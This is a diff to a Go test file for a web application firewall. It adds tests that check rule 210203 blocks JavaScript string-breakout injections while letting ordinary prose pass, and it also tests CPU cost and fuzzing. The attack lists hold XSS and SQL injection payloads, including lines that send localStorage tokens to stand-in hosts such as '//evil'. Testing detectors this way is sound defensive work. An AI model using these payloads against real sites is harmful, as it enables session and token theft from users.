@@ -1,6 +1,11 @@
 package waf
 
-import "testing"
+import (
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+)
 
 // tsqlQuotedNameAttacks are attack 75's SQL Server statements whose names
 // stand in double quotes (a name to SQL Server, whose connections turn
@@ -32,4 +37,43 @@ var tsqlQuotedNameBenign = []string{"Parents' exec committee meets Friday", "The
 func TestTSQLQuotedNames(t *testing.T) {
 	operatorTable(t, "210201", func(v string) bool { return tsqlStatement(v) || numberOperand(v) }, append(tsqlQuotedNameAttacks, pgConversionAttacks...),
 		[]string{`x' exec @r = "sp_x" 1--`, "x'||password::int||'", "x'+password::regclass+'"}, tsqlQuotedNameBenign)
+}
+
+// jsStringAttacks are attack 75's JavaScript string breakouts (a value
+// written into var s = '<value>') and others of the shape.
+var jsStringAttacks = []string{"'-location.assign(atob`amF2YXNjcmlwdDphbGVydCgxKQ`)-'", "'-location.replace(name)-'", `"-location.assign(name)-"`,
+	"');navigator.sendBeacon('//evil',localStorage.token);//", "'-top.location.assign(name)-'", "'-document.location.assign(name)-'",
+	"'-new Image().src='//x/'+localStorage.t-'"}
+
+// jsStringBenign are prose and code near them.
+var jsStringBenign = []string{"He said 'hi' - then left", "'A' + 'B' is AB", "'Hi' - print it", "Python's 'r' + open(file)",
+	"Use 'x' + document.title for the name", "The 'Save' - fetch button", "'ok' - alert me later", "Set 'a', then location is home",
+	`"Quote" - Navigator magazine`, "Rock 'n' roll - top 10"}
+
+// TestJSStringBreakout: rule 210203 refuses jsStringAttacks through a
+// real Caddy (in the query and JSON), and none of jsStringBenign.
+func TestJSStringBreakout(t *testing.T) {
+	operatorTable(t, "210203", jsStringBreakout, jsStringAttacks, []string{"'-alert(1)-'", "';fetch('//x?'+localStorage.token)//",
+		`";location='javascript:alert(1)';//`}, jsStringBenign)
+}
+
+// TestCPUBoundJSString: repetitions of rule 210203's shapes cost what any
+// value of their size does (each quote is read on over a few bytes).
+func TestCPUBoundJSString(t *testing.T) {
+	tableOnly(t)
+	base, _ := startCaddy(t, "waf")
+	margin := time.Duration(cpuMargin)
+	for _, unit := range []string{"'-", "')))))))-", "'-window.", "'-document.location.", "'---- ", "'-location.x "} {
+		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(repeatedJSON(unit)))
+		req.Header.Set("Content-Type", "application/json")
+		readUnder(t, req, unit+" over and over, JSON", margin*urlsBound)
+	}
+}
+
+// FuzzJSStringBreakout: any value is read without a panic.
+func FuzzJSStringBreakout(f *testing.F) {
+	for _, v := range concat(jsStringAttacks, jsStringBenign) {
+		f.Add(v)
+	}
+	f.Fuzz(func(t *testing.T, v string) { jsStringBreakout(v) })
 }
